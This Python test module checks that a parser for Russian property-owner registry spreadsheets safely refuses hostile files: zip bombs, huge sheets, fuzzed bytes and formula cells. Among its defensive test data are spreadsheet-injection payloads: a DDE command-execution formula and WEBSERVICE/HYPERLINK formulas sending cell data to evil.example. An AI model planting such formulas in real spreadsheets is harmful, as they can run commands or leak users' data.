"""A registry file from anyone: whatever is in it, reading ends in a report or a TableFileError with
a Russian message — never another exception, never a crash of the process, in bounded time and
memory. Formulas are read as the values the spreadsheet program saved, never computed. Nothing is
stored: parsing needs no database.

The time limits here are hang guards above the reading process's own limit
(spreadsheet.WORKBOOK_TIME_LIMIT): how fast a hostile file is refused is bench/hostile_files.py's
figure, against a legitimate registry read in the same run."""
from __future__ import annotations

import datetime as dt
import io
import math
import re
import resource
import time

import pytest
import xlsxwriter
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from bigfiles import far_apart_xlsx, million_rows_xlsx, repeated_cells_ods, zip_bomb_xlsx
from filemakers import make_table
from services import spreadsheet
from services.registry_parse import RegistryReport, parse_registry
from services.spreadsheet import MAX_ROWS, MAX_UNZIPPED_BYTES, TableFileError, read_table
from tests import hang

#: s, a hang guard: the reading process is stopped at WORKBOOK_TIME_LIMIT (60 s); a case takes a median 0.05 s
CASE_SECONDS = 2 * spreadsheet.WORKBOOK_TIME_LIMIT
CYRILLIC = re.compile(r"[А-Яа-яЁё]")
HEADER = ["Номер помещения", "Общая площадь, м²", "ФИО собственника", "Доля", "Дата документа", "E-mail"]
FORMULAS = ["=1+1", "@SUM(A1:A2)", "+1+1", "-2", '=HYPERLINK("http://evil.example","x")',
            "=cmd|' /C calc'!A0", '=WEBSERVICE("http://evil.example/?"&A1)']
SETTINGS = dict(deadline=None, derandomize=True, suppress_health_check=[HealthCheck.too_slow,
                                                                        HealthCheck.data_too_large])


def _maxrss_bytes(who=resource.RUSAGE_SELF) -> int:
    return resource.getrusage(who).ru_maxrss * 1024  # kilobytes on Linux


@pytest.fixture(autouse=True)
def no_database(monkeypatch):
    """Parsing is pure: any attempt to open a database fails the test."""
    import sqlalchemy

    import services.db

    def refuse(*_a, **_k):
        raise AssertionError("parsing a registry must not touch a database")

    monkeypatch.setattr(sqlalchemy, "create_engine", refuse)
    monkeypatch.setattr(services.db, "make_engine", refuse)


@pytest.fixture(scope="module")
def memory_watch():
    """The test process's peak RSS must not grow by more than 300 MB over the whole module, and no
    reading child may get near its address-space limit's worth of resident memory."""
    before = _maxrss_bytes()
    yield
    growth = _maxrss_bytes() - before
    assert growth < 300 * 1024**2, f"peak RSS of the test process grew by {growth / 1024**2:.0f} MB"
    # the reading processes' own peaks: RUSAGE_CHILDREN would also count other modules' app servers
    assert 0 < spreadsheet.reader_peak_rss() <= spreadsheet.WORKBOOK_MEMORY_LIMIT


def outcome(data: bytes, filename: str):
    """parse_registry's result or its TableFileError, timed; any other exception fails the test."""
    start = time.monotonic()
    try:
        result = parse_registry(data, filename)
    except TableFileError as exc:
        result = exc
    elapsed = time.monotonic() - start
    assert elapsed < CASE_SECONDS, f"{filename}: {hang.message('reading the file', CASE_SECONDS)}"
    if isinstance(result, TableFileError):
        assert CYRILLIC.search(str(result)), f"not a Russian message: {result}"
    else:
        assert isinstance(result, RegistryReport)
    return result


# ---------- hypothesis: any cells, written into real files ----------

def _text(fmt: str):
    if fmt == "csv":
        alphabet = st.characters(blacklist_categories=("Cs",))
    else:  # XML cannot hold other control characters at all; no office program writes them
        alphabet = st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="\ufffe\uffff") | \
            st.sampled_from("\t\n")
    return st.text(alphabet, max_size=60)


def cells(fmt: str):
    return st.one_of(
        _text(fmt),
        st.sampled_from(FORMULAS + ["", "1/2", "0,5", "Итого", "NaN", "nan", "inf", "1e308", "ИВАНОВ И.И."]),
        st.integers(min_value=-(2**53), max_value=2**53),
        st.floats(allow_nan=fmt != "xls", allow_infinity=False) if fmt != "xls" else st.floats(allow_nan=False,
                                                                                                allow_infinity=False),
        st.dates(min_value=dt.date(1900, 3, 1), max_value=dt.date(9999, 12, 31)),
        st.datetimes(min_value=dt.datetime(1900, 3, 1), max_value=dt.datetime(9999, 12, 31)),
        st.none(),
        st.builds(lambda ch, n: ch * n, st.sampled_from("Ж=x "), st.integers(5_000, 40_000)),  # huge strings
    )


def tables(fmt: str):
    row = st.lists(cells(fmt), min_size=0, max_size=8)
    return st.tuples(st.booleans(), st.lists(row, min_size=0, max_size=12))


@pytest.mark.usefixtures("memory_watch")
@pytest.mark.parametrize("fmt", ["xlsx", "ods", "csv"])
def test_any_cells_give_a_report_or_a_russian_error(fmt):
    @settings(max_examples=25 if fmt != "csv" else 60, **SETTINGS)
    @given(tables(fmt))
    @example((True, [["1", 50, "=1+1", "1/2"], ["2", float("nan"), "@SUM(A1)", 1]]))
    def check(table):
        with_header, rows = table
        rows = ([HEADER] if with_header else []) + rows
        try:
            data = make_table(rows, fmt)
        except (ValueError, OverflowError):
            return  # the writer itself cannot store such a value (a year beyond what the format holds)
        outcome(data, f"реестр.{fmt}")
    check()


@pytest.mark.usefixtures("memory_watch")
@pytest.mark.parametrize("fmt", ["xlsx", "xls", "ods", "csv"])
def test_random_bytes_with_a_table_name_give_a_russian_error(fmt):
    magic = {"xlsx": b"PK\x03\x04", "ods": b"PK\x03\x04", "xls": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "csv": b""}[fmt]

    @settings(max_examples=30, **SETTINGS)
    @given(st.binary(min_size=0, max_size=20_000), st.booleans())
    def check(data, with_magic):
        result = outcome((magic if with_magic else b"") + data, f"реестр.{fmt}")
        if fmt != "csv" and with_magic:
            assert isinstance(result, TableFileError)
    check()


@pytest.mark.usefixtures("memory_watch")
@pytest.mark.parametrize("fmt", ["xls", "xlsx", "ods"])
def test_a_damaged_real_workbook_never_crashes_the_process(fmt):
    """Bytes of a real file, flipped or cut: a damaged .xls makes calamine abort (tafia/calamine
    #550/#684/#714) or try to allocate tens of gigabytes; the read runs in a child process, and
    the user gets «повреждён»."""
    base = make_table([HEADER] + [[str(i), 40 + i, f"Собственник {i}", "1/2", dt.date(2020, 1, i % 28 + 1),
                                   f"o{i}@example.ru"] for i in range(1, 40)], fmt)

    @settings(max_examples=40, **SETTINGS)
    @given(st.lists(st.tuples(st.integers(0, len(base) - 1), st.integers(0, 255)), min_size=1, max_size=20),
           st.one_of(st.none(), st.integers(0, len(base) - 1)))
    def check(flips, cut):
        data = bytearray(base)
        for pos, value in flips:
            data[pos] = value
        outcome(bytes(data[:cut] if cut is not None else data), f"реестр.{fmt}")
    check()


# Byte positions found by fuzzing that, before the read moved to a child process, killed the
# test process: a SIGABRT from «memory allocation of 51943851520 bytes failed» and others.
def _xls_that_aborted_calamine() -> list[bytes]:
    import random

    base = make_table([["Квартира", "Площадь", "ФИО"], ["1", 50, "Иванов"], ["2", 60.5, "Петров"]] * 20, "xls")
    found = []
    for seed in (1, 4):
        rnd = random.Random(seed)
        for i in range(300):
            b = bytearray(base)
            for _ in range(rnd.randint(1, 20)):
                pos = rnd.randrange(len(b))
                b[pos] = rnd.randrange(256)
            if rnd.random() < 0.3:
                b = b[:rnd.randrange(len(b))]
            if (seed, i) in ((1, 88), (4, 283)):
                found.append(bytes(b))
    return found


@pytest.mark.parametrize("data", _xls_that_aborted_calamine(), ids=["alloc-51-GB", "alloc-13-GB"])
def test_an_xls_that_aborts_calamine_is_refused_as_damaged(data):
    result = outcome(data, "реестр.xls")
    assert isinstance(result, TableFileError)
    assert "повреждён" in str(result)


# ---------- bombs and huge sheets ----------

def test_a_zip_bomb_is_refused_before_inflating():
    data = zip_bomb_xlsx(MAX_UNZIPPED_BYTES + 50 * 1024**2)
    assert len(data) < 5 * 1024**2
    rss = _maxrss_bytes()
    with pytest.raises(TableFileError, match=r"после распаковки занимает 450,0 МБ .* допустимых 400,0 МБ"):
        read_table(data, "бомба.xlsx")
    assert _maxrss_bytes() - rss < 100 * 1024**2, "the bomb was inflated"


def test_a_zip_bomb_that_lies_about_its_size_is_refused_quickly():
    """The headers say 4 KB, the sheet inflates to 600 MB: the size check believes the headers, so
    the reader itself must stop (and it runs under a memory limit in any case)."""
    result = outcome(zip_bomb_xlsx(600 * 1024**2, declared_size=4096), "бомба.xlsx")
    assert isinstance(result, TableFileError) and "повреждён" in str(result)


def test_a_sheet_of_a_million_rows_is_refused_naming_the_limit():
    data = million_rows_xlsx(1_000_000)
    rss = _maxrss_bytes()
    start = time.monotonic()
    with pytest.raises(TableFileError) as caught:
        parse_registry(data, "миллион.xlsx")
    elapsed = time.monotonic() - start
    message = str(caught.value)
    assert f"{MAX_ROWS:,}".replace(",", " ") in message and "строк" in message and "Разделите" in message
    assert elapsed < CASE_SECONDS, hang.message("refusing a million rows", CASE_SECONDS)
    assert _maxrss_bytes() - rss < 200 * 1024**2


def test_a_csv_of_a_million_lines_is_refused_naming_the_limit():
    data = ("Номер помещения;Общая площадь;ФИО\r\n" + "1;50;Иванов\r\n" * 1_000_000).encode("utf-8")[:19 * 1024**2]
    start = time.monotonic()
    with pytest.raises(TableFileError, match=f"больше {MAX_ROWS:,} строк".replace(",", " ")):
        parse_registry(data, "миллион.csv")
    assert time.monotonic() - start < CASE_SECONDS, hang.message("refusing a million lines", CASE_SECONDS)


@pytest.mark.parametrize("make, name", [(far_apart_xlsx, "далеко.xlsx"), (repeated_cells_ods, "повтор.ods")],
                         ids=["xlsx-A1-and-XFD199001", "ods-cell-repeated-300x199000"])
def test_a_few_kilobytes_that_expand_to_billions_of_cells_are_refused(make, name):
    """Found here: calamine builds the dense range of every sheet, and these ask for 100 GB and
    1.2 GB; the allocation failure aborted the process (the app server with it)."""
    data = make()
    assert len(data) < 10_000
    result = outcome(data, name)
    assert isinstance(result, TableFileError) and "повреждён" in str(result)


def test_a_registry_on_the_first_sheet_is_read_though_a_later_sheet_would_kill_the_reader():
    """The registry is the first sheet with a complete header; the sheets after it are not read,
    so a hostile or broken draft sheet behind it neither fails the import nor gets parsed. Reading
    every sheet (as the decisions import does) still refuses the file."""
    rows = [HEADER, ["1", 50, "Иванов Иван", "1", "", ""]]
    data = far_apart_xlsx(registry_before=rows)
    report = outcome(data, "два листа.xlsx")
    assert isinstance(report, RegistryReport) and [o.name for o in report.owners] == ["Иванов Иван"]
    with pytest.raises(TableFileError, match="повреждён"):
        read_table(data, "два листа.xlsx")


# ---------- formulas ----------

def _xlsx_with_formulas() -> bytes:
    buf = io.BytesIO()
    wb = xlsxwriter.Workbook(buf, {"in_memory": True})
    ws = wb.add_worksheet("Реестр")
    ws.write_row(0, 0, ["Номер помещения", "Общая площадь", "ФИО собственника", "Доля"])
    # cached results differ from what the formula would compute: reading must take the cached one
    ws.write_string(1, 0, "1")
    ws.write_formula(1, 1, "=1+1", None, 77)
    ws.write_formula(1, 2, '=HYPERLINK("http://evil.example","x")', None, "Иванов Иван")
    ws.write_string(1, 3, "1")
    ws.write_string(2, 0, "2")
    ws.write_number(2, 1, 40)
    ws.write_formula(2, 2, '=WEBSERVICE("http://evil.example/steal")', None, "Петров Пётр")
    ws.write_formula(2, 3, "=1/1", None, 1)
    wb.close()
    return buf.getvalue()


def _ods_with_formulas() -> bytes:
    from odf.opendocument import OpenDocumentSpreadsheet
    from odf.table import Table, TableCell, TableRow
    from odf.text import P

    doc = OpenDocumentSpreadsheet()
    table = Table(name="Реестр")
    rows = [
        [("string", "Номер помещения", None), ("string", "Общая площадь", None), ("string", "ФИО собственника", None)],
        [("string", "1", None), ("float", "77", "of:=1+1"), ("string", "Иванов Иван", 'of:=HYPERLINK("http://evil")')],
    ]
    for row in rows:
        tr = TableRow()
        for typ, value, formula in row:
            kw = {"valuetype": typ}
            if typ == "float":
                kw["value"] = value
            if formula:
                kw["formula"] = formula
            tc = TableCell(**kw)
            tc.addElement(P(text=value))
            tr.addElement(tc)
        table.addElement(tr)
    doc.spreadsheet.addElement(table)
    buf = io.BytesIO()
    doc.write(buf)
    return buf.getvalue()


def test_formulas_in_xlsx_are_read_as_their_cached_values_never_computed():
    report = outcome(_xlsx_with_formulas(), "формулы.xlsx")
    assert isinstance(report, RegistryReport)
    by_premise = {o.premise: o for o in report.owners}
    assert by_premise["1"].area == 77  # the cached value, not 1+1
    assert by_premise["1"].name == "Иванов Иван"
    assert by_premise["2"].name == "Петров Пётр"
    assert not report.errors


def test_formulas_in_ods_are_read_as_their_cached_values_never_computed():
    report = outcome(_ods_with_formulas(), "формулы.ods")
    assert isinstance(report, RegistryReport)
    [owner] = report.owners
    assert owner.area == 77 and owner.name == "Иванов Иван"


@pytest.mark.parametrize("fmt", ["xlsx", "ods", "csv"])
def test_formula_text_in_a_cell_stays_text(fmt):
    rows = [HEADER[:3]] + [[str(i), 40, name] for i, name in enumerate(FORMULAS, start=1)]
    report = outcome(make_table(rows, fmt), f"реестр.{fmt}")
    assert isinstance(report, RegistryReport)
    names = {o.premise: o.name for o in report.owners}
    rejected = {str(r[1][0]) for r in report.rejected_rows}
    # each formula-looking name is either kept as the same text or refused with a reason: never evaluated
    for i, text in enumerate(FORMULAS, start=1):
        assert names.get(str(i), text) == text.strip() or str(i) in rejected
    assert all(not (isinstance(n, (int, float)) and not math.isnan(n)) for n in names.values())
